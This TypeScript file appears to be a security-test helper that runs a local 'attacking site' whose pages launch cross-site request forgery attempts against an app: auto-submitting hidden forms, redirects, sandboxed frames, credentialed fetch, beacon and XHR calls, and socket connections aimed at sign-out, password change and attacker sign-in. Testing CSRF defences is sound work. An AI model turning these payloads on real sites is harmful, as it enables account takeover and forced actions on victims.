import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import { freePort } from "../free-port";
import { OTHER_PASSWORD, PASSWORD } from "./people";

type Fields = Readonly<Record<string, string>>;

/** Posts that would harm a signed-in user, or sign a visitor in as the attacker. */
const harmfulPosts = (attacker: string): readonly (readonly [path: string, fields: Fields])[] => [
  ["/sign-out", {}],
  ["/appearance", { scheme: "dark", returnTo: "/guide" }],
  ["/changePassword", { oldPassword: PASSWORD, password: OTHER_PASSWORD, confirmPassword: OTHER_PASSWORD }],
  ["/login?mode=1", { intent: "sign-in", username: attacker, password: PASSWORD, captcha: "AB2C" }],
  ["/login?mode=2", { intent: "send-code", username: attacker }],
  ["/login?register=1", { intent: "send-code", username: attacker }],
  ["/setPassword", { newpassword: OTHER_PASSWORD, confirmPassword: OTHER_PASSWORD, Agreement: "true" }],
  ["/api/yxd-system/sys/smsOrEmail", { smsTplType: "0", type: "1", username: attacker }],
  ["/baseurl/ses/outLogin", {}],
];
const ENCODINGS = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];

const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const also = (path: string, query: string) => `${path}${path.includes("?") ? "&" : "?"}${query}`;

interface FormShape {
  readonly action: string;
  readonly fields: Fields;
  readonly target: string;
  readonly encoding?: string;
}

function formOf({ action, fields, target, encoding = ENCODINGS[0]! }: FormShape): string {
  const inputs = Object.entries({ ...fields, _method: "DELETE" }).map(
    ([name, value]) => `<input type="hidden" name="${name}" value="${escaped(value)}">`,
  );
  return `<form method="post" action="${escaped(action)}" enctype="${encoding}" target="${target}">${inputs.join("")}</form>`;
}

const SUBMIT_ALL = "<script>for (const form of document.forms) form.submit();</script>";

/** Each form has a frame of its own as its target, so that all are sent. */
function framed(forms: readonly Omit<FormShape, "target">[], attributes = ""): string {
  const parts = forms.map(
    (form, index) =>
      `<iframe name="f${index}" ${attributes}></iframe>${formOf({ ...form, target: `f${index}` })}`,
  );
  return parts.join("") + SUBMIT_ALL;
}

/** Posts by script, by all methods that need no CORS permission and some that do. */
const SCRIPTED = (posts: unknown) => `<script type="module">
  const posts = ${JSON.stringify(posts)};
  const attempts = posts.flatMap(([url, fields]) => {
    const body = new URLSearchParams(fields), data = new FormData();
    for (const [name, value] of body) data.append(name, value);
    const json = JSON.stringify(fields);
    const send = (options) => fetch(url, { method: "POST", credentials: "include", ...options });
    return [
      send({ mode: "no-cors", body }), send({ mode: "no-cors", body: data }), send({ mode: "no-cors", body: json }),
      send({ mode: "no-cors", body, keepalive: true, redirect: "follow", referrerPolicy: "no-referrer" }),
      send({ mode: "cors", body }), send({ mode: "cors", body: json, headers: { "Content-Type": "application/json" } }),
      send({ mode: "cors", body, headers: { "X-Access-Token": "x".repeat(43), "X-Enhance": "1" } }),
      send({ method: "PUT", mode: "cors", body: json }), send({ method: "DELETE", mode: "cors" }),
      send({ mode: "no-cors", body: new Blob([json], { type: "text/plain" }) }),
      Promise.resolve(navigator.sendBeacon(url, body)), Promise.resolve(navigator.sendBeacon(url, data)),
      Promise.resolve(navigator.sendBeacon(url, json)),
      new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("POST", url); x.withCredentials = true; x.send(body); }),
    ];
  });
  const results = await Promise.allSettled(attempts);
  document.title = "done " + results.length;
</script>`;

/** Elements that make a browser request an address by itself or on one click. */
const LOADED = (addresses: readonly string[]) =>
  addresses
    .map(
      (url) => `<img src="${url}"><script src="${url}"></script><link rel="stylesheet" href="${url}">
<link rel="prefetch" href="${url}"><link rel="preload" as="fetch" href="${url}" crossorigin="use-credentials">
<link rel="icon" href="${url}"><link rel="manifest" href="${url}" crossorigin="use-credentials"><iframe src="${url}"></iframe>
<object data="${url}"></object><embed src="${url}"><video src="${url}" poster="${url}"></video><audio src="${url}"></audio>
<p style="background: url('${url}')">x</p><form method="get" action="${url}"><input name="scheme" value="dark"></form>
<a href="${url}" download>d</a><a href="#${url}" ping="${url}">p</a><a href="${url}" target="_blank" rel="opener">o</a>`,
    )
    .join("\n");

const SOCKETS = (addresses: readonly string[]) => `<script type="module">
  const told = (socket) => new Promise((done) => { socket.onopen = () => done("open"); socket.onerror = () => done("refused"); });
  const all = ${JSON.stringify(addresses)}.flatMap((url) => [
    told(new WebSocket(url.replace("http", "ws"))), told(new WebSocket(url.replace("http", "ws"), "x".repeat(43))),
    told(new EventSource(url, { withCredentials: true })),
  ]);
  document.title = [...new Set(await Promise.all(all))].join();
</script>`;

function pagesAgainst(origin: string, attacker: string): Readonly<Record<string, string>> {
  const posts = harmfulPosts(attacker);
  const forms = posts.flatMap(([path, fields]) => [
    ...ENCODINGS.map((encoding) => ({ action: origin + path, fields, encoding })),
    ...ENCODINGS.map((encoding) => ({ action: origin + also(path, "_data=root"), fields, encoding })),
    { action: origin + also(path, "index"), fields },
    { action: origin + path.replace("/", "//"), fields },
  ]);
  const one = posts.map(([path, fields]) => ({ action: origin + path, fields }));
  const redirected = [307, 308].flatMap((status) =>
    one.map(({ action, fields }) => ({ action: `/${status}?to=${encodeURIComponent(action)}`, fields })),
  );
  const inner = framed(one).replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const top = one.map((form, index) => [`/top-${index}`, formOf({ ...form, target: "_self" }) + SUBMIT_ALL]);
  const blank = one.map((form, index) => [`/blank-${index}`, formOf({ ...form, target: "_blank" })]);
  const read = ["/sign-out", "/login?mode=2", "/appearance?scheme=dark", "/baseurl/ses/outLogin"];
  return {
    "/frames": framed(forms),
    "/redirected": framed(redirected),
    "/nobody": `<iframe sandbox="allow-scripts allow-forms" srcdoc="${inner}"></iframe>
<iframe src="data:text/html,${encodeURIComponent(framed(one))}"></iframe>`,
    "/scripts": SCRIPTED(posts.map(([path, fields]) => [origin + path, fields])),
    "/loads": LOADED(read.map((path) => origin + path)),
    "/sockets": SOCKETS([`${origin}/api/yxd-system/websocket/1`, `${origin}/login`, `${origin}/sign-out`]),
    ...(Object.fromEntries([...top, ...blank]) as Readonly<Record<string, string>>),
  };
}

export interface AttackingSite {
  readonly port: number;
  /** Number of different posts that are tried in a top-level window. */
  readonly posts: number;
  readonly close: () => Promise<void>;
}

/** Starts another site on loopback whose pages attack `origin` in the browser that opens them. */
export async function startAttackingSite(origin: string, attacker: string): Promise<AttackingSite> {
  const pages = pagesAgainst(origin, attacker);
  function answer(request: IncomingMessage, response: ServerResponse): void {
    const url = new URL(request.url ?? "/", "http://x");
    const status = Number(/^\/(307|308)$/.exec(url.pathname)?.[1]);
    if (status) return void response.writeHead(status, { Location: url.searchParams.get("to")! }).end();
    const body = pages[url.pathname];
    const headers = { "Content-Type": "text/html; charset=utf-8", "Referrer-Policy": "unsafe-url" };
    response
      .writeHead(body === undefined ? 404 : 200, headers)
      .end(`<!doctype html><title>…</title>${body ?? ""}`);
  }
  const server = createServer(
    (request, response) => void request.resume().once("end", () => answer(request, response)),
  );
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
  const close = () =>
    new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
  return { port, posts: harmfulPosts(attacker).length, close };
}
